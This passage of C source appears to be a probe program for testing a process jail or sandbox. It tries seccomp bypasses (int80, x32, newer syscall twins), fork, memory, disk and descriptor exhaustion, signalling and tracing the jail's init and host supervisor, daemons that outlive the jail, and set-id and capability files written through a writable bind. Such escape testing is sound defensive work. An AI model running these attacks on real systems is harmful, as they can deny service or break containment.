    in.sin_port = htons(atoi(argv[1]));
    in.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    report("loopback_tcp", connect(s, (struct sockaddr *)&in, sizeof in));
    close(s);
    return 0;
}

/* ipc KEY: a host SysV shared memory segment and message queue with this key. */
static int p_ipc(int argc, char **argv) {
    (void)argc;
    key_t key = (key_t)strtol(argv[0], NULL, 0);
    report("shmget", shmget(key, 0, 0));
    report("msgget", msgget(key, 0));
    return 0;
}

/* sethostname NAME: set the hostname and read it back. */
static int p_sethostname(int argc, char **argv) {
    (void)argc;
    report("sethostname", sethostname(argv[0], strlen(argv[0])));
    struct utsname u;
    uname(&u);
    say("info nodename %s", u.nodename);
    return 0;
}

/* ---- seccomp bypasses --------------------------------------------------------------------- */

/* int80 NR ARG: one call through the i386 ABI. The default policy kills the process (SIGSYS). */
static int p_int80(int argc, char **argv) {
    (void)argc;
    long r = int80(atol(argv[0]), atol(argv[1]), 0, 0);
    report_raw("int80", r);
    return 0;
}

/* x32 NR: a native call with the x32 bit set; the default policy kills the process. */
static int p_x32(int argc, char **argv) {
    (void)argc;
    report("x32", syscall(X32_BIT | atol(argv[0])));
    return 0;
}

/* newer PATH: the newer twin of a call a filter may only know by its old name: clone3 for
 * clone, openat2 for openat (and open, which x86_64 still has). */
static int p_newer(int argc, char **argv) {
    (void)argc;
    report("openat", openat(AT_FDCWD, argv[0], O_RDONLY | O_CLOEXEC));
    struct open_how how;
    memset(&how, 0, sizeof how);
    how.flags = O_RDONLY | O_CLOEXEC;
    report("openat2", syscall(SYS_openat2, AT_FDCWD, argv[0], &how, sizeof how));
    report("open", syscall(SYS_open, argv[0], O_RDONLY | O_CLOEXEC));
    /* called directly (no helper child: a policy denying clone also stops fork) */
    report_child("clone_plain", c_clone_flag((void *)0L));
    report_child("clone3_plain", c_clone3_flag((void *)0L));
    report_child("clone_newuser", c_clone_flag((void *)(long)CLONE_NEWUSER));
    report_child("clone3_newuser", c_clone3_flag((void *)(long)CLONE_NEWUSER));
    return 0;
}

/* ---- exhaustion --------------------------------------------------------------------------- */

/* forkbomb MAX HOLD: fork until MAX processes or the first failure, then keep trying for HOLD
 * seconds (a real bomb never stops: the time limit has to end it). Children just wait. */
static int p_forkbomb(int argc, char **argv) {
    (void)argc;
    int max = atoi(argv[0]), hold = atoi(argv[1]), made = 0, failed = 0;
    while (made < max) {
        pid_t p = fork();
        if (p == 0) { for (;;) pause(); }
        if (p < 0) { failed = errno; break; }
        made++;
    }
    say("info forked %d", made);
    if (failed) say("err fork %s", ename(failed));
    else say("ok fork %d", made);
    time_t end = time(NULL) + hold;
    while (time(NULL) < end) {
        pid_t p = fork();
        if (p == 0) { for (;;) pause(); }
        if (p < 0) usleep(1000);
    }
    return 0;
}

/* membomb MAX_MB: allocate and touch 1 MiB at a time. */
static int p_membomb(int argc, char **argv) {
    (void)argc;
    int max = atoi(argv[0]), mb;
    for (mb = 0; mb < max; mb++) {
        char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p == MAP_FAILED) { say("err mmap %s", ename(errno)); break; }
        memset(p, 0x5a, 1 << 20);
        if (mb % 8 == 0) say("info allocated_mb %d", mb + 1);
    }
    say("ok allocated %d", mb);
    return 0;
}

/* diskfill DIR MAX_MB FILES: write 1 MiB chunks into FILES files under DIR until an error. */
static int p_diskfill(int argc, char **argv) {
    (void)argc;
    const char *dir = argv[0];
    int max = atoi(argv[1]), files = atoi(argv[2]), mb = 0, err = 0;
    static char chunk[1 << 20];
    memset(chunk, 'x', sizeof chunk);
    for (int f = 0; f < files && mb < max && !err; f++) {
        char path[4200];
        snprintf(path, sizeof path, "%s/fill-%d", dir, f);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
        if (fd < 0) { err = errno; break; }
        for (int k = 0; k < max / files && mb < max; k++) {
            ssize_t w = write(fd, chunk, sizeof chunk);
            if (w < (ssize_t)sizeof chunk) { err = w < 0 ? errno : ENOSPC; break; }
            mb++;
            if (mb % 4 == 0) say("info written_mb %d", mb);
        }
        close(fd);
    }
    say("info written_mb %d", mb);
    if (err) say("err write %s", ename(err));
    else say("ok write %d", mb);
    return 0;
}

/* fdbomb: open descriptors until the limit. */
static int p_fdbomb(int argc, char **argv) {
    (void)argc; (void)argv;
    int n = 0;
    for (;;) {
        if (open("/dev/null", O_RDONLY) < 0) { say("err open %s", ename(errno)); break; }
        n++;
    }
    say("info opened %d", n);
    return 0;
}

static volatile unsigned long depth;
static unsigned long recurse(unsigned long n) {
    volatile char frame[4096];
    frame[0] = (char)n;
    depth = n;
    if (n > (1UL << 40)) return 0;  /* never reached: the stack limit ends it long before */
    if (n % 1024 == 0) say("info depth %lu", n);
    return recurse(n + 1) + frame[0];
}

/* recurse: until the stack limit. */
static int p_recurse(int argc, char **argv) {
    (void)argc; (void)argv;
    return (int)recurse(1);
}

/* ---- the supervisor ----------------------------------------------------------------------- */

/* hitsuper HOSTPID: signal and trace the jail's init and the host supervisor's pid. */
static int p_hitsuper(int argc, char **argv) {
    (void)argc;
    signal(SIGTERM, SIG_IGN);  /* init forwards SIGTERM to us: that would end the probe */
    signal(SIGHUP, SIG_IGN);
    report("kill_init_kill", kill(1, SIGKILL));
    report("kill_init_term", kill(1, SIGTERM));
    report("kill_parent", kill(getppid(), SIGKILL));
    report("ptrace_init", ptrace(PTRACE_SEIZE, 1, 0, 0));
    pid_t host = atoi(argv[0]);
    report("kill_host_supervisor", kill(host, SIGKILL));
    usleep(100000);
    say("info survived 1");
    return 0;
}

static void set_name(const char *name) { prctl(PR_SET_NAME, name, 0, 0, 0); }

/* orphan NAME SECS [FILE]: a daemon (double fork, new session) that tries to outlive the jail;
 * with FILE, it appends a byte to FILE every 100 us meanwhile (evidence that it still runs). */
static int p_orphan(int argc, char **argv) {
    pid_t p = fork();
    if (p == 0) {
        setsid();
        if (fork() > 0) _exit(0);
        set_name(argv[0]);
        for (int fd = 0; fd < 3; fd++) close(fd);
        time_t end = time(NULL) + atoi(argv[1]);
        int fd = argc > 2 ? open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644) : -1;
        while (time(NULL) < end) {
            if (fd >= 0) { if (write(fd, "x", 1) < 0) break; usleep(100); }
            else sleep(1);
        }
        _exit(0);
    }
    waitpid(p, NULL, 0);
    say("ok orphaned 1");
    return 0;
}

/* sleeper NAME SECS: two processes named NAME that sleep (to be found and outlived on the host). */
static int p_sleeper(int argc, char **argv) {
    (void)argc;
    set_name(argv[0]);
    if (fork() == 0) {
        setsid();
        set_name(argv[0]);
        sleep(atoi(argv[1]));
        _exit(0);
    }
    say("ok sleeping 1");
    sleep(atoi(argv[1]));
    return 0;
}

/* ---- set-id files and file capabilities through a writable bind ---------------------------- */

/* setid DIR: in DIR (a writable bind, whose files belong to a host id), every way to make a
 * set-id file: chmod, fchmod, fchmodat, fchmodat2, creat, open, openat and openat2 with O_CREAT,
 * O_TMPFILE then linkat, mkdir, mknod of a regular file; and a security.capability xattr
 * (cap_net_raw, effective); a write to DIR/existing, a set-id file the test made on the host.
 * The verdict is the host's: the test stats what landed in DIR. */
static int p_setid(int argc, char **argv) {
    (void)argc;
    int d = open(argv[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (d < 0) { say("err open_dir %s", ename(errno)); return 0; }
    int fd = openat(d, "plain", O_CREAT | O_WRONLY | O_CLOEXEC, 0755);
    report("create_plain", fd);
    if (fd >= 0) {
        report("fchmod_suid", fchmod(fd, 04755));
        report("fchmod_sgid", fchmod(fd, 02755));
        close(fd);
    }
    if (fchdir(d) == 0) report("chmod_suid", chmod("plain", 04755));
    report("fchmodat_sgid", fchmodat(d, "plain", 02755, 0));
#ifndef SYS_fchmodat2
#define SYS_fchmodat2 452
#endif
    report("fchmodat2_suid", syscall(SYS_fchmodat2, d, "plain", 04755, 0));
#ifdef SYS_creat
    fd = (int)syscall(SYS_creat, "creat", 04755);
    if (report("creat_suid", fd) >= 0) close(fd);
#endif
#ifdef SYS_open
    fd = (int)syscall(SYS_open, "open", O_CREAT | O_WRONLY | O_CLOEXEC, 04755);
    if (report("open_suid", fd) >= 0) close(fd);
#endif
    fd = openat(d, "openat", O_CREAT | O_WRONLY | O_CLOEXEC, 06755);
    if (report("openat_suid", fd) >= 0) close(fd);
    struct open_how how = {.flags = O_CREAT | O_WRONLY | O_CLOEXEC, .mode = 04755};
    fd = (int)syscall(SYS_openat2, d, "openat2", &how, sizeof how);
    if (report("openat2_suid", fd) >= 0) close(fd);
    fd = openat(d, ".", O_TMPFILE | O_WRONLY | O_CLOEXEC, 04755);
    if (report("tmpfile_suid", fd) >= 0) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        report("tmpfile_link", linkat(AT_FDCWD, path, d, "tmpfile", AT_SYMLINK_FOLLOW));
        close(fd);
    }
    report("mkdir_sgid", mkdirat(d, "dir", 02755));
    report("mknod_suid", mknodat(d, "node", S_IFREG | 04755, 0));
    /* VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE, permitted = CAP_NET_RAW (13) */
    unsigned char cap[20] = {0x01, 0x00, 0x00, 0x02, 0x00, 0x20, 0x00, 0x00};
    fd = openat(d, "capfile", O_CREAT | O_WRONLY | O_CLOEXEC, 0755);
    if (report("create_capfile", fd) >= 0) {
        report("fsetxattr_caps", fsetxattr(fd, "security.capability", cap, sizeof cap, 0));
        close(fd);
    }
    fd = openat(d, "existing", O_WRONLY | O_APPEND | O_CLOEXEC);  /* a host set-id file */
    if (fd >= 0) { report("write_existing", write(fd, "x", 1)); close(fd); }
    close(d);
    return 0;
}

/* ---- main --------------------------------------------------------------------------------- */

struct sub { const char *name; int (*fn)(int, char **); int nargs; };
static const struct sub SUBS[] = {
    {"dotdot", p_dotdot, 1}, {"fds", p_fds, 1}, {"procroot", p_procroot, 2},
    {"handle", p_handle, 3}, {"chroot", p_chroot, 1}, {"exists", p_exists, 0},
    {"userns", p_userns, 0}, {"prctl", p_prctl, 0}, {"personality", p_personality, 0},
    {"signal", p_signal, 1}, {"killall", p_killall, 0}, {"read", p_read, 1},
    {"sysctl", p_sysctl, 1}, {"openw", p_openw, 1}, {"mknod", p_mknod, 0},
    {"devices", p_devices, 0}, {"kernel", p_kernel, 0}, {"modules", p_modules, 0},
    {"kexec", p_kexec, 0}, {"tty", p_tty, 0}, {"net", p_net, 2}, {"ipc", p_ipc, 1},
    {"sethostname", p_sethostname, 1}, {"int80", p_int80, 2}, {"x32", p_x32, 1},
    {"newer", p_newer, 1}, {"forkbomb", p_forkbomb, 2}, {"membomb", p_membomb, 1},
    {"diskfill", p_diskfill, 3}, {"fdbomb", p_fdbomb, 0}, {"recurse", p_recurse, 0},
    {"hitsuper", p_hitsuper, 1}, {"orphan", p_orphan, 2}, {"sleeper", p_sleeper, 2},
    {"setid", p_setid, 1},
};

int main(int argc, char **argv) {
    const char *overrides = NULL;
    int i = 1;
    if (i < argc && !strncmp(argv[i], "--twin=", 7)) overrides = argv[i++] + 7;
    if (i >= argc) { fprintf(stderr, "usage: probe [--twin=...] SUBCOMMAND [ARGS...]\n"); return 2; }
    const char *sub = argv[i++];
    for (size_t k = 0; k < sizeof SUBS / sizeof *SUBS; k++) {
        if (strcmp(sub, SUBS[k].name)) continue;
        if (argc - i < SUBS[k].nargs) { fprintf(stderr, "probe %s: missing arguments\n", sub); return 2; }
        guard(sub, overrides);  /* before ANY attack, whatever the subcommand */
        say("info probe %s", sub);
        return SUBS[k].fn(argc - i, argv + i);
    }
    fprintf(stderr, "probe: unknown subcommand %s\n", sub);
    return 2;
}
